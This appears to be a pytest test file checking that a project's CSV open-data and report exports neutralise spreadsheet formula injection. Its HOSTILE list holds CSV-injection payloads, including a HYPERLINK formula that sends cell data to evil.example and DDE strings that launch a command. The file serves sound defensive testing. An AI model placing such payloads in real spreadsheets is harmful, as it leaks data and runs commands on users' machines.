"""Spreadsheet-safe CSV (issue 14, "Found 4."): no cell of the open data or the report starts a formula.

Hostile editors' text goes into every free-text column (titles, summaries, names of units, topics,
channels, languages and targets); the files are read back with the csv module, as a spreadsheet
would split them, and every cell must either be a number commhub computed or text that no
spreadsheet evaluates.
"""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from click.testing import CliRunner
from helpers import CHANNELS, LANGUAGES, TOPICS, UNITS, Corpus

from commhub.cli.main import main
from commhub.content.loader import load_content
from commhub.outputs.feeds import messages_by_language
from commhub.outputs.opendata import CSV_PATH, write_opendata
from commhub.site.plan import SitePlan
from commhub.outputs.spreadsheet import FORMULA_STARTS, spreadsheet_safe

# One per character that starts a formula, and the classic payloads.
HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\uff1d1+1",  # full-width equals sign
]
# Starts that the loader strips or refuses in titles and names, but that a spreadsheet would run
# too (it trims leading white space): the helper neutralises them wherever they come from.
OTHER_STARTS = ["\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "\u00a0+1", "\tx"]


def hostile(index: int) -> str:
    return HOSTILE[index % len(HOSTILE)]


def dangerous(cell: str) -> bool:
    """Whether a spreadsheet could read `cell` as a formula."""
    return cell[:1] in FORMULA_STARTS or cell.lstrip()[:1] in FORMULA_STARTS


def hostile_corpus(root) -> Corpus:
    corpus = Corpus(root)
    corpus.write_yaml("languages.yml", {"languages": [
        {**language, "name": hostile(index)} for index, language in enumerate(LANGUAGES)]})
    corpus.write_yaml("units.yml", {"units": [
        {**unit, "name": {"vi": hostile(index), "en": hostile(index + 1)}} for index, unit in enumerate(UNITS)]})
    corpus.write_yaml("topics.yml", {"topics": [
        {**topic, "name": {"vi": hostile(index + 2), "en": hostile(index + 3)}} for index, topic in enumerate(TOPICS)]})
    corpus.write_yaml("channels.yml", {"channels": [
        {**channel, "name": {"vi": hostile(index + 4), "en": hostile(index + 5)}}
        for index, channel in enumerate(CHANNELS)]})
    for index, payload in enumerate(HOSTILE):
        slug = f"san-pham-{index}"
        corpus.product(slug, unit=UNITS[index % 2]["id"], published=f"2024-0{index + 1}-01")
        corpus.version(slug, "vi", payload, summary=hostile(index + 1))
        corpus.version(slug, "en", hostile(index + 2), summary=hostile(index + 3),
                       translation={"of": "vi", "method": "human", "reviewed": True})
    corpus.write_yaml("targets.yml", {
        "plan": {"name": HOSTILE[1]},
        "period": {"from": dt.date(2024, 1, 1), "to": dt.date(2024, 12, 31)},
        "count": "versions",
        "targets": [
            {"id": "minority", "label": {"vi": HOSTILE[0], "en": HOSTILE[3]},
             "any": [{"language_group": "ethnic_minority"}], "share": {"min": 0.15, "max": 0.2}},
            {"id": "many", "label": {"vi": HOSTILE[2]}, "any": [{"channel": "website"}], "count": {"min": 3}},
        ],
    })
    return corpus


@pytest.fixture(scope="module")
def corpus(tmp_path_factory) -> Corpus:
    return hostile_corpus(tmp_path_factory.mktemp("hostile-csv"))


def assert_no_formula(rows: list[list[str]]) -> None:
    bad = [cell for row in rows for cell in row if dangerous(cell)]
    assert bad == []


# --- the shared helper ---------------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE + OTHER_STARTS)
def test_text_that_starts_a_formula_gets_a_quote(text):
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("text", ["Trợ giúp pháp lý", "2024-03-01", "a=b", "x-1", "", "'=already quoted",
                                  "https://hub.example.org/products/a/", "../products/a/"])
def test_other_text_is_unchanged(text):
    assert spreadsheet_safe(text) == text


def test_numbers_stay_numbers():
    # commhub's own figures: written as numbers, negative ones too (they never hold an editor's text).
    assert [spreadsheet_safe(value) for value in (7, 0, -3, 0.25, -0.5)] == [7, 0, -3, 0.25, -0.5]
    assert spreadsheet_safe("-3") == "'-3"  # the same characters as text are an editor's: neutralised
    assert spreadsheet_safe(True) == "True" and spreadsheet_safe(None) == ""


# --- the open data --------------------------------------------------------------------------------


def test_open_data_csv_has_no_formula(corpus, tmp_path):
    content, problems = load_content(corpus.content)
    assert problems.errors == []
    plan = SitePlan(content, docs={})
    write_opendata(plan, tmp_path, "", messages_by_language(plan))
    with (tmp_path / CSV_PATH).open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.DictReader(file))
    assert len(rows) == 2 * len(HOSTILE)
    assert_no_formula([list(row.values()) for row in rows])
    by_version = {(row["slug"], row["lang"]): row for row in rows}
    for index, payload in enumerate(HOSTILE):
        vi, en = by_version[(f"san-pham-{index}", "vi")], by_version[(f"san-pham-{index}", "en")]
        # The text itself is kept whole, behind one quote mark.
        assert (vi["title"], vi["summary"]) == ("'" + payload, "'" + hostile(index + 1))
        assert (en["title"], en["summary"]) == ("'" + hostile(index + 2), "'" + hostile(index + 3))
        assert vi["unit_name"] == "'" + hostile(index % 2)
        assert en["unit_name"] == "'" + hostile(index % 2 + 1)
        assert vi["published"] == f"2024-0{index + 1}-01"


# --- the report -----------------------------------------------------------------------------------


@pytest.mark.parametrize("lang", ["vi", "en"])
def test_report_csv_has_no_formula(corpus, monkeypatch, lang):
    monkeypatch.chdir(corpus.root)
    result = CliRunner().invoke(main, ["report", "--format", "csv", "--lang", lang])
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.stdout)))
    assert_no_formula(rows)
    header, *rows = rows
    records = [dict(zip(header, row)) for row in rows]
    labels = {(row["dimension"], row["id"]): row["label"] for row in records if row["section"] == "breakdown"}
    # Every hostile label came through, each behind its quote mark.
    assert labels[("unit", "so-tu-phap")] == "'" + (hostile(0) if lang == "vi" else hostile(1))
    assert labels[("topic", "legal-aid")] == "'" + (hostile(2) if lang == "vi" else hostile(3))
    assert labels[("channel", "website")] == "'" + (hostile(4) if lang == "vi" else hostile(5))
    assert labels[("language", "vi")] == f"'{hostile(0)} (vi)"
    targets = {row["id"]: row for row in records if row["section"] == "target"}
    assert targets["minority"]["label"] == "'" + (HOSTILE[0] if lang == "vi" else HOSTILE[3])
    assert targets["many"]["label"] == "'" + HOSTILE[2]
    # Numbers are still plain numbers.
    assert (targets["minority"]["min"], targets["minority"]["max"], targets["many"]["min"]) == ("0.15", "0.2", "3")
    assert records[0]["count"] == records[0]["total"] == str(2 * len(HOSTILE))
